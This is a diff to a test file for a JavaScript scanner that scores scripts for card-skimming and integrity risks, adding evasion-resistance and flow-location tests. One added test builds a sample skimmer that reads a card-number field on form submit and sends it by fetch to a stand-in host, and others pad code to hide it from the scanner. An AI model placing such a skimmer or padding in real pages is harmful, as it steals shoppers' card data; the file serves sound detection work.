@@ -1,7 +1,7 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { MALICIOUS_BELOW, type ScriptVerdict, scoreScript } from './index.ts'
-import { MAX_SCORED_LENGTH } from './limits.ts'
+import { MAX_SCORED_LENGTH, MAX_WHOLE_LENGTH } from './limits.ts'
 import { HONEST_CASES } from './honest-scripts.cases.ts'
 import { SCRIPT_CASES, SKIMMER } from './score-script.cases.ts'
 
@@ -57,6 +57,8 @@ test.each(HONEST_CASES)('honest: $name', ({ source, sign }) => {
   )
 })
 
+const LIBRARY = `;(function(a){a.plus=function(b,c){if(b>c){return b+c}return c-b};a.each=function(b,c){for(var i=0;i<b.length;i++){c(b[i],i)}};a.name='plus'})(window.lib={});\n`
+
 test.each<[string, before: string, behind?: string]>([
   ['a comment of markup', '<!-- x\n'],
   ['a comment of markup around it', '<!--\n', '\n-->'],
@@ -69,6 +71,9 @@ test.each<[string, before: string, behind?: string]>([
   ['a long comment', `/*${'x'.repeat(MAX_SCORED_LENGTH)}*/`],
   ['spaces', ' \n'.repeat(MAX_SCORED_LENGTH)],
   ['spaces behind', '', '\n'.repeat(MAX_SCORED_LENGTH)],
+  ['a long string', `var s='${'x'.repeat(MAX_WHOLE_LENGTH)}';`],
+  ['a library of two megabytes', LIBRARY.repeat(2e6 / LIBRARY.length)],
+  ['a library of two megabytes behind it', '', LIBRARY.repeat(2e6 / LIBRARY.length)],
   ['a text that would have been markup', `'<!-- <div>';`],
 ])('the scorer cannot be disabled by %s', (_, before, behind = '') => {
   const source = before === '/*' ? `/*x${behind}${SKIMMER}` : `${before}${SKIMMER}${behind}`
@@ -88,8 +93,8 @@ test.each([
 })
 
 test.each<[string, string, unscored: 'deep' | 'none']>([
-  ['parentheses', `${'('.repeat(50_000)}1${')'.repeat(50_000)};${SKIMMER}`, 'deep'],
-  ['branches', `if(0);${'else if(0);'.repeat(25_000)}${SKIMMER}`, 'deep'],
+  ['parentheses', `${'('.repeat(50_000)}1${')'.repeat(50_000)};`, 'deep'],
+  ['branches', `if(0);${'else if(0);'.repeat(25_000)}`, 'deep'],
   ['blocks', `${'{'.repeat(50_000)}${'}'.repeat(50_000)}var a=1`, 'deep'],
   ['a page without scripts', '<!doctype html><title>404</title><p>Not found</p>', 'none'],
   ['a comment and nothing else', '<!-- gone -->', 'none'],
@@ -98,6 +103,13 @@ test.each<[string, string, unscored: 'deep' | 'none']>([
   ['a style', 'a { color: red }', 'none'],
 ])('unparsable text is not therefore harmless: %s', (_, source, unscored) => {
   expect(scoreScript(source)).toEqual({ scores: null, unscored, reasons: [] })
+})
+
+test.each([
+  ['parentheses', `${'('.repeat(50_000)}1${')'.repeat(50_000)};`],
+  ['branches', `if(0);${'else if(0);'.repeat(25_000)}`],
+])('a section behind unparsable text is found: %s', (_, before) => {
+  expect(scoreScript(before + SKIMMER).scores?.magecart_score).toBeLessThan(MALICIOUS_BELOW)
 })
 
 test('the visible parts of unparsable text can be enough', () => {
@@ -194,6 +206,33 @@ test.each(DEAD_CODE)('%s: no single part is hostile', (_, pad) => {
   const { scores, reasons } = scoreScript(pad('document.title="x"'))
   expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
   expect(reasons.filter(({ kind }) => kind === 'rule' || kind === 'sign')).toEqual([])
+})
+
+test.each<[string, before: string, line: number, column: number]>([
+  ['in a script of its own', '', 2, 3],
+  ['behind a library, where its section is the reason', LIBRARY.repeat(40), 42, 3],
+  ['behind two megabytes', LIBRARY.repeat(13_000), 13_002, 3],
+])('the path of a flow has the place where the data leaves: %s', (_, before, line, column) => {
+  const source = `${before}document.forms[0].onsubmit=function(){\n  fetch('https://x.example/?d='+document.querySelector('#cc_number').value,{mode:'no-cors'})};`
+  expect(scoreScript(source).reasons).toContainEqual(
+    expect.objectContaining({
+      kind: 'flow',
+      name: 'card to fetch',
+      description: expect.stringContaining(`by fetch on submit at line ${line}, column ${column}`),
+    }),
+  )
+})
+
+test('what was not analyzed of a long script is said, and is suggestive', () => {
+  const sends = (i: number): string =>
+    `function f${i}(){var v=document.querySelector('#a${i}').value;if(v){${'v+=1;'.repeat(300)}fetch('/own/${i}?v='+v)}}\n`
+  const { scores, reasons } = scoreScript(Array.from({ length: 300 }, (_, i) => sends(i)).join(''))
+  expect(reasons.find(({ name }) => name === 'not-analyzed')).toMatchObject({
+    kind: 'sign',
+    description: expect.stringMatching(/^\d+ more sections/),
+    found: expect.stringMatching(/^lines \d+ to \d+$/),
+  })
+  expect(scores?.js_integrity_score).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
 })
 
 test('data sent to an own host does not leave', () => {
